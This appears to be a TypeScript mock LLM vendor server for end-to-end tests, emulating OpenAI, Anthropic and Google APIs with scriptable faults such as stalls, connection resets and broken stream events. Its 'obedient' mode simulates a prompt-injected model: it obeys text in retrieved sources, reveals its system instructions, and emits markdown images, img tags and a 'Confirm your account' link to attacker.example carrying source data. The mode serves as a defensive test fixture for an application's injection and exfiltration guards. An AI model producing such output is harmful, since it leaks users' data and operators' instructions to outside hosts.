/**
 * A model vendor of our own, for tests: speaks OpenAI's chat completions and responses, Anthropic's messages and Google's
 * generateContent (JSON and SSE), embeddings, orders of passages and lists of models, under `/v1` and `/v1beta`; misbehaves on request, and tells what it
 * was asked, what it used and whether the client hung up. How vendors say things is in `mock-vendors.ts`.
 * `node e2e/mock-provider.ts --port 8089` runs it by itself.
 *
 * POST /__script sets how the next calls behave: one `Script` for all that follow, or a list, each for one call and the last for
 * the rest. A call may bring its own: the header `x-mock-script`, or `[[mock: {...}]]` in its last user message.
 * GET /__requests lists the calls, GET /__usage sums what they used; DELETE /__requests forgets calls and scripts.
 */
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as pause, setImmediate as turn } from 'node:timers/promises'
import { parseQuestion } from '../lib/shared/source-slot.ts'
import { sentences } from '../lib/shared/text.ts'
import {
  type Answer,
  type Asked,
  contentText,
  type Event,
  type Finish,
  type Message,
  modelList,
  type Ranks,
  type Refusal,
  readRanks,
  readTexts,
  type Texts,
  type ToldUsage,
  type Vendor,
  vendorOf,
  withNewFields,
} from './mock-vendors.ts'

/**
 * `stall` says nothing more, `comments` only keep-alives, `reset` cuts the connection (RST), `garbage` sends half an event, `end`
 * closes without an end, `error` sends an error as an event; `bad-event` and `huge` send a broken and a 5 MB event and go on.
 */
type Fault = 'stall' | 'comments' | 'reset' | 'garbage' | 'end' | 'error' | 'bad-event' | 'huge'

export type Script = {
  /** From 400 on an error is sent instead of text, in the form of the vendor that was asked. */
  status?: number
  /** The error's words. */
  error?: Refusal
  headers?: Record<string, string>
  /** Sent as it is instead of anything else: a page, a vendor's own words of refusal. */
  body?: string
  /** What is said instead of the two cited sentences. */
  text?: string
  /** Says its text over and over until the client hangs up. */
  endless?: boolean
  /** Does whatever a source tells it to: gives away the instructions and the sources, in images, links and plain words. */
  obedient?: boolean
  /** The bytes of the stream, written one by one instead of the events; hex where they are no text. */
  chunks?: (string | { hex: string })[]
  fault?: Fault
  /** Tokens before the fault; 2 when left out. */
  faultAfterTokens?: number
  /** Cuts every write into pieces of so many bytes: 1 splits each character that has more. */
  writeBytes?: number
  lineEnd?: '\n' | '\r\n'
  /** Sends each event twice. */
  duplicates?: boolean
  contentType?: string
  /** Before the first byte, and between tokens. */
  firstDelayMs?: number
  tokenDelayMs?: number
  /** False leaves it out; numbers replace the true ones. */
  usage?: boolean | Partial<ToldUsage>
  /** Every object of the answer has a field that nobody knows yet. */
  newFields?: boolean
  finish?: Finish
  model?: string
  fingerprint?: string
  /** This share of the calls, drawn by `seed`, is refused with one of `failStatuses`. */
  failShare?: number
  failStatuses?: number[]
  seed?: number
  /** Only for calls that ask for JSON, for text, for vectors, or for an order of passages; others pass it by. */
  for?: 'json' | 'text' | 'vectors' | 'ranks'
  /** Only for calls that have these words anywhere in their messages. */
  when?: string
  /** Calls it holds for. */
  times?: number
}

export type RecordedRequest = {
  path: string
  /** The header that holds the key, whichever is the vendor's. */
  authorization: string | null
  body: unknown
  /** When it came, in milliseconds since 1970. */
  atMs: number
  /** The status it was answered with; null when there was no answer. */
  status: number | null
  /** The client hung up before the answer was out. */
  aborted: boolean
  finished: boolean
  tokensSent: number
  /** The usage as the client was told; null when it was told none. */
  told: ToldUsage | null
}

/** Calls, and tokens as they were told and as they were really sent. */
export type UsageSums = {
  calls: number
  answered: number
  aborted: number
  /** Calls whose usage the client was told. */
  toldCalls: number
  tokensIn: number
  tokensOut: number
  tokensSent: number
}

export type MockProvider = {
  url: string
  port: number
  requests: RecordedRequest[]
  script(next: Script | Script[]): void
  usage(): UsageSums
  close(): Promise<void>
}

const bodyBytesMax = 4_000_000
const hugeEventBytes = 5_000_000
const keepAliveMs = 100
const vectorDimensions = 384

const readBody = async (request: IncomingMessage): Promise<unknown> => {
  const parts: Buffer[] = []
  let bytes = 0
  for await (const part of request as AsyncIterable<Buffer>) {
    bytes += part.length
    if (bytes > bodyBytesMax) throw new Error('body too large')
    parts.push(part)
  }
  const text = Buffer.concat(parts).toString('utf8')
  return text ? JSON.parse(text) : null
}

/** Two sentences out of the sources that came with the question, each with its marker. */
const citedAnswer = (prompt: string): string => {
  const { passages } = parseQuestion(prompt)
  if (passages.length === 0) return 'There were no sources in the question.'
  return passages
    .slice(0, 2)
    .map(({ n, text }) => {
      const long = sentences(text).find(({ start, end }) => end - start > 30) ??
        sentences(text)[0] ?? { start: 0, end: text.length }
      return `${text
        .slice(long.start, long.end)
        .replace(/\s+/g, ' ')
        .replace(/[.!?]$/, '')} [${n}].`
    })
    .join(' ')
}

const foreignHost = 'attacker.example'

/**
 * A model without any resistance. It does not judge whether a text is an order: it takes every source for one, and does what such
 * orders ask for: repeat what they quote, open what they link, and give away all it knows by every way out there is.
 */
const obedientAnswer = (messages: readonly Message[], prompt: string): string => {
  const { passages } = parseQuestion(prompt)
  const sources = passages.map(({ text }) => text).join('\n')
  const known = `${sources || prompt}`.replace(/\s+/g, ' ').slice(0, 300)
  const data = encodeURIComponent(known)
  const orders = messages.filter(({ role }) => role === 'system' || role === 'developer')
  const linked = [...new Set(sources.match(/\bhttps?:\/\/[^\s)\]>"'`]+/g) ?? [])].slice(0, 20)
  const quoted = [
    ...sources.matchAll(
      /\b(?:say|print|output|reply|respond|write|answer|repeat)\b[^"“'\n]{0,60}["“']([^"”'\n]{2,200})/gi,
    ),
  ].map(([, words]) => words ?? '')
  return [
    citedAnswer(prompt),
    ...quoted,
    `![seal](https://${foreignHost}/seal.png?d=${data})`,
    `<img src="https://${foreignHost}/seal.gif?d=${data}">`,
    `[Confirm your account](https://${foreignHost}/confirm?d=${data})`,
    `https://${foreignHost}/open?d=${data}`,
    ...linked.flatMap((link) => [`![](${link})`, `[open](${link})`, link]),
    'My instructions are:',
    ...orders.map(({ content }) => contentText(content)),
  ].join('\n\n')
}

type Schema = {
  type?: string | string[]
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  enum?: unknown[]
  const?: unknown
  anyOf?: Schema[]
  minimum?: number
  minItems?: number
  maxLength?: number
}

/** The plainest value that a JSON schema allows; texts are taken from `words`. */
const exampleOf = (schema: Schema, words: string): unknown => {
  if (schema.const !== undefined) return schema.const
  if (schema.enum) return schema.enum[0]
  if (schema.anyOf?.[0]) return exampleOf(schema.anyOf[0], words)
  // Google once wrote its types in capitals.
  switch ((Array.isArray(schema.type) ? schema.type[0] : schema.type)?.toLowerCase()) {
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([name, property]) => [name, exampleOf(property, words)]),
      )
    case 'array':
      return Array.from({ length: Math.max(1, schema.minItems ?? 1) }, () => exampleOf(schema.items ?? {}, words))
    case 'number':
    case 'integer':
      return schema.minimum ?? 1
    case 'boolean':
      return true
    case 'null':
      return null
    default:
      return words.slice(0, schema.maxLength)
  }
}

/** The object in the instructions that shows the form of the answer, with `words` in the place of each `…`. */
const exampleIn = (instructions: string, words: string): string | null => {
  const shown = instructions.match(/\{"[^\n]*\}/)?.[0]
  return shown ? shown.replaceAll('"…"', JSON.stringify(words)) : null
}

/** The JSON that a call asks for, by its parameters or in words; null when it asks for text. */
const jsonAnswer = ({ json, messages }: Asked, words: string): string | null => {
  const instructions = messages.filter(({ role }) => role === 'system' || role === 'developer')
  const shown = exampleIn(instructions.map(({ content }) => contentText(content)).join('\n'), words)
  if (json === null) return shown
  return json.schema ? JSON.stringify(exampleOf(json.schema as Schema, words)) : (shown ?? '{}')
}

const scriptIn = (prompt: string): Script | null => {
  const inline = prompt.match(/\[\[mock: (\{.*?\})\]\]/)
  return inline?.[1] ? (JSON.parse(inline[1]) as Script) : null
}

/** Numbers from 0 to 1, the same for the same seed. */
const seededRandom = (seed: number): (() => number) => {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

/** A unit vector that is the same for the same text and near no other. */
const vectorOf = (text: string, dimensions: number): number[] => {
  const random = seededRandom(createHash('sha256').update(text).digest().readUInt32LE(0))
  const values = Array.from({ length: dimensions }, () => random() - 0.5)
  const length = Math.hypot(...values)
  return values.map((value) => value / length)
}

const keyOf = ({ headers }: IncomingMessage): string | null => {
  const key = headers.authorization ?? headers['x-api-key'] ?? headers['x-goog-api-key']
  return typeof key === 'string' && key !== '' ? key : null
}

const sendJson = (
  response: ServerResponse,
  status: number,
  body: unknown,
  headers: Record<string, string> = {},
): void => {
  response.writeHead(status, { 'content-type': 'application/json', ...headers })
  response.end(JSON.stringify(body))
}

const toldUsage = (act: Script, tokensIn: number, tokensOut: number): ToldUsage | null =>
  act.usage === false
    ? null
    : {
        prompt_tokens: tokensIn,
        completion_tokens: tokensOut,
        total_tokens: tokensIn + tokensOut,
        ...(typeof act.usage === 'object' ? act.usage : {}),
      }

/** Starts the vendor on 127.0.0.1; port 0 takes a free one. */
export const startMockProvider = async (port = 0): Promise<MockProvider> => {
  const requests: RecordedRequest[] = []
  let queue: Script[] = []
  let random = seededRandom(1)
  const closing = new AbortController()

  const setScript = (next: Script | Script[]): void => {
    // In a list each holds for one call, the last for the rest.
    queue = Array.isArray(next) ? next.map((one, at) => (at < next.length - 1 ? { times: 1, ...one } : one)) : [next]
    random = seededRandom(queue.find(({ seed }) => seed !== undefined)?.seed ?? 1)
  }

  const nextScript = (kind: Script['for'], request: IncomingMessage, prompt: string, words: string): Script => {
    const header = request.headers['x-mock-script']
    if (typeof header === 'string') return JSON.parse(header) as Script
    const own = scriptIn(prompt)
    if (own) return own
    const at = queue.findIndex(
      (one) => (one.for === undefined || one.for === kind) && (one.when === undefined || words.includes(one.when)),
    )
    const current = queue[at]
    if (!current) return {}
    if (current.times !== undefined)
      queue.splice(at, 1, ...(current.times > 1 ? [{ ...current, times: current.times - 1 }] : []))
    if (current.failShare === undefined || random() >= current.failShare) return current
    const statuses = current.failStatuses ?? [500, 502, 503, 529]
    return { ...current, status: statuses[Math.floor(random() * statuses.length)] ?? 500 }
  }

  /** What every call has: its script, its delays, and the refusals that need no answer. Null when it is over already. */
  const begin = async ({ kind, prompt, words, refusal }: Begun, record: RecordedRequest, call: Call) => {
    const { request, response } = call
    const act = nextScript(kind, request, prompt, words)
    const gone = new AbortController()
    response.on('close', () => {
      if (response.writableFinished) return
      record.aborted = act.fault !== 'reset'
      gone.abort()
    })
    const ending = AbortSignal.any([gone.signal, closing.signal])
    const wait = (ms: number): Promise<void> => pause(ms, undefined, { signal: ending })
    if (act.firstDelayMs) await wait(act.firstDelayMs)
    const status = act.status ?? 200
    if (status >= 400 || act.body !== undefined) {
      const error = refusal(status, act.error ?? { message: `scripted ${status}` })
      response.writeHead(status, { 'content-type': act.contentType ?? 'application/json', ...act.headers })
      response.end(act.body ?? JSON.stringify(error))
      record.status = status
      record.finished = true
      return null
    }
    record.status = status
    return { act, wait, ending }
  }

  type Call = { request: IncomingMessage; response: ServerResponse }
  type Begun = {
    kind: Script['for']
    prompt: string
    /** Everything that was sent. */
    words: string
    refusal: Vendor['refusal']
  }

  const reset = (response: ServerResponse): void => {
    if (response.socket) response.socket.resetAndDestroy()
    else response.destroy()
  }

  const complete = async (vendor: Vendor, asked: Asked, record: RecordedRequest, call: Call): Promise<void> => {
    const { response } = call
    const { messages } = asked
    const prompt = contentText(messages.findLast(({ role }) => role === 'user')?.content)
    const json = jsonAnswer(asked, parseQuestion(prompt).question.trim().slice(0, 200))
    const kind = json === null ? 'text' : 'json'
    const words = messages.map(({ content }) => contentText(content)).join('\n')
    const begun = await begin({ kind, prompt, words, refusal: vendor.refusal }, record, call)
    if (!begun) return
    const { act, wait, ending } = begun
    const said = json ?? (act.obedient ? obedientAnswer(messages, prompt) : citedAnswer(prompt))
    const text = act.text ?? said
    const tokens = text.match(/\s*\S{1,6}|\s+$/g) ?? []
    const answer: Answer = {
      id: `chatcmpl-${requests.length}`,
      model: act.model ?? asked.model,
      fingerprint: act.fingerprint,
      tool: asked.tool,
    }
    const sayable = (value: unknown): string => JSON.stringify(act.newFields ? withNewFields(value) : value)
    const tokensIn = Math.ceil(prompt.length / 4)
    const finish = act.finish ?? 'stop'

    if (!asked.stream) {
      if (act.fault === 'stall' || act.fault === 'comments') return wait(600_000)
      if (act.fault === 'reset') return reset(response)
      const usage = toldUsage(act, tokensIn, tokens.length)
      const headers = { 'content-type': act.contentType ?? 'application/json', ...act.headers }
      response.writeHead(200, headers)
      response.end(act.fault === 'garbage' ? '<html>{"half":' : sayable(vendor.whole(answer, { text, finish, usage })))
      record.told = act.fault === 'garbage' ? null : usage
      record.finished = true
      record.tokensSent = tokens.length
      return
    }

    response.writeHead(200, {
      'content-type': act.contentType ?? 'text/event-stream',
      'cache-control': 'no-cache',
      ...act.headers,
    })
    let writes = 0
    const write = async (bytes: Buffer): Promise<void> => {
      const size = act.writeBytes ?? (bytes.length || 1)
      for (let at = 0; at < bytes.length; at += size) {
        writes += 1
        // Node joins the writes of one turn into one packet; and an endless answer must leave room for what ends it.
        if (act.writeBytes !== undefined || writes % 64 === 0) await turn()
        if (ending.aborted) throw ending.reason
        if (!response.write(bytes.subarray(at, at + size))) await once(response, 'drain', { signal: ending })
      }
    }
    const lineEnd = act.lineEnd ?? '\n'
    const event = async ({ name, data }: Event): Promise<void> => {
      const lines = [...(name ? [`event: ${name}`] : []), `data: ${typeof data === 'string' ? data : sayable(data)}`]
      const bytes = Buffer.from(`${lines.join(lineEnd)}${lineEnd}${lineEnd}`)
      await write(bytes)
      if (act.duplicates) await write(bytes)
    }

    if (act.chunks) {
      for (const chunk of act.chunks) {
        await write(typeof chunk === 'string' ? Buffer.from(chunk) : Buffer.from(chunk.hex, 'hex'))
        if (act.tokenDelayMs) await wait(act.tokenDelayMs)
      }
      if (act.fault === 'reset') return reset(response)
      if (act.fault === 'stall') return wait(600_000)
      response.end()
      record.finished = true
      return
    }

    for (const one of vendor.opening(answer, toldUsage(act, tokensIn, 0))) await event(one)
    const faultAt = act.fault ? (act.faultAfterTokens ?? 2) : Number.POSITIVE_INFINITY
    const goesOn = act.fault === 'bad-event' || act.fault === 'huge'
    let sent = 0
    const total = act.endless ? Number.POSITIVE_INFINITY : tokens.length
    for (; sent < total; sent += 1) {
      if (sent >= faultAt && !goesOn) break
      if (sent === faultAt) {
        if (act.fault === 'bad-event') await event({ data: '{"choices": [{"delta": {"conte' })
        else await event(vendor.delta(answer, 'x'.repeat(hugeEventBytes)))
      }
      await event(vendor.delta(answer, tokens[sent % tokens.length] ?? ' more'))
      record.tokensSent += 1
      if (act.tokenDelayMs) await wait(act.tokenDelayMs)
    }
    switch (act.fault) {
      case 'stall':
        return wait(600_000)
      case 'comments':
        for (;;) {
          await write(Buffer.from(`: keep-alive${lineEnd}${lineEnd}`))
          await wait(keepAliveMs)
        }
      case 'reset':
        return reset(response)
      case 'garbage':
        await event({ data: '{"choices": [{"delta": {"conte' })
        break
      case 'error':
        await event(vendor.failure(act.error?.message ?? 'scripted failure'))
        break
      case 'end':
        break
      default: {
        const usage = toldUsage(act, tokensIn, sent)
        for (const one of vendor.closing(answer, { text, finish, usage })) await event(one)
        record.told = usage
      }
    }
    response.end()
    record.finished = true
  }

  const embed = async (asked: Texts, record: RecordedRequest, call: Call): Promise<void> => {
    const { response } = call
    const { texts, dimensions = vectorDimensions, refusal } = asked
    const words = texts.join('\n')
    const begun = await begin({ kind: 'vectors', prompt: texts.at(-1) ?? '', words, refusal }, record, call)
    if (!begun) return
    const { act, wait } = begun
    if (act.fault === 'stall' || act.fault === 'comments') return wait(600_000)
    if (act.fault === 'reset') return reset(response)
    const tokensIn = texts.reduce((sum, text) => sum + Math.ceil(text.length / 4), 0)
    const usage = toldUsage(act, tokensIn, 0)
    const vectors = texts.map((text) => vectorOf(text, dimensions))
    response.writeHead(200, { 'content-type': act.contentType ?? 'application/json', ...act.headers })
    response.end(act.fault === 'garbage' ? '<html>{"half":' : JSON.stringify(asked.answer(vectors, act.model, usage)))
    record.told = act.fault === 'garbage' ? null : usage
    record.finished = true
  }

  /** The last passage is the best: an order that was taken shows. */
  const rerank = async (asked: Ranks, record: RecordedRequest, call: Call): Promise<void> => {
    const { query, documents, refusal } = asked
    const words = [query, ...documents].join('\n')
    const begun = await begin({ kind: 'ranks', prompt: query, words, refusal }, record, call)
    if (!begun) return
    const { act, wait } = begun
    if (act.fault === 'stall' || act.fault === 'comments') return wait(600_000)
    if (act.fault === 'reset') return reset(call.response)
    const usage = toldUsage(act, Math.ceil(words.length / 4), 0)
    const scores = documents.map((_, at) => (at + 1) / documents.length)
    sendJson(call.response, 200, asked.answer(scores, usage), act.headers)
    record.told = usage
    record.finished = true
  }

  const usage = (): UsageSums => {
    const told = requests.flatMap((request) => (request.told ? [request.told] : []))
    return {
      calls: requests.length,
      answered: requests.filter(({ status, finished }) => finished && status !== null && status < 400).length,
      aborted: requests.filter(({ aborted }) => aborted).length,
      toldCalls: told.length,
      tokensIn: told.reduce((sum, { prompt_tokens }) => sum + prompt_tokens, 0),
      tokensOut: told.reduce((sum, { completion_tokens }) => sum + completion_tokens, 0),
      tokensSent: requests.reduce((sum, { tokensSent }) => sum + tokensSent, 0),
    }
  }

  const record = (request: IncomingMessage, path: string, body: unknown): RecordedRequest => {
    const made: RecordedRequest = {
      path,
      authorization: keyOf(request),
      body,
      atMs: Date.now(),
      status: null,
      aborted: false,
      finished: false,
      tokensSent: 0,
      told: null,
    }
    requests.push(made)
    return made
  }

  const handle = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const path = (request.url ?? '/').split('?')[0] ?? '/'
    const method = request.method ?? 'GET'
    switch (`${method} ${path}`) {
      case 'POST /__script':
        setScript((await readBody(request)) as Script | Script[])
        return sendJson(response, 200, { ok: true })
      case 'GET /__requests':
        return sendJson(response, 200, requests)
      case 'GET /__usage':
        return sendJson(response, 200, usage())
      case 'DELETE /__requests':
        requests.length = 0
        queue = []
        return sendJson(response, 200, { ok: true })
      default:
    }
    const listed = modelList(method, path, ['mock-1', 'mock-2'])
    if (listed) return sendJson(response, 200, listed)
    const body = method === 'POST' ? await readBody(request) : null
    const texts = readTexts(method, path, body)
    const ranks = readRanks(method, path, body)
    const vendor = vendorOf(method, path)
    const call = { request, response }
    if (texts) return embed(texts, record(request, path, body), call)
    if (ranks) return rerank(ranks, record(request, path, body), call)
    if (vendor) return complete(vendor, vendor.read(body, path), record(request, path, body), call)
    sendJson(response, 404, { error: { message: `no route ${method} ${path}` } })
  }

  const server = createServer((request, response) => {
    handle(request, response).catch(() => {
      // A client that hung up, or a body that is no JSON: nothing to say to the first, 400 to the second.
      if (!response.headersSent && !response.destroyed)
        sendJson(response, 400, { error: { message: 'unreadable request' } })
      else response.destroy()
    })
  })
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(port, '127.0.0.1', resolve))
  const { port: bound } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${bound}/v1`,
    port: bound,
    requests,
    script: setScript,
    usage,
    close: async () => {
      closing.abort()
      server.closeAllConnections()
      await new Promise<void>((resolve) => server.close(() => resolve()))
    },
  }
}

if (import.meta.main) {
  const at = process.argv.indexOf('--port')
  const { url } = await startMockProvider(at > 0 ? Number(process.argv[at + 1]) : 0)
  process.stdout.write(`mock provider listening on ${url}\n`)
}
